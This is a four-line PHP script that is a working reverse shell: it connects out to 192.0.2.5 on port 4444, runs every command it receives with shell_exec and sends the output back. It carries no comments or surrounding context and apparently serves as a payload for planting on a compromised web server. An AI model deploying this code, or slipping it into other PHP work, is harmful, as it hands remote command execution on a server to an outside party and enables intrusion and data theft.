<?php
$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($s, "192.0.2.5", 4444);
while ($c = socket_read($s, 2048)) { $o = shell_exec(trim($c)); socket_write($s, $o); }
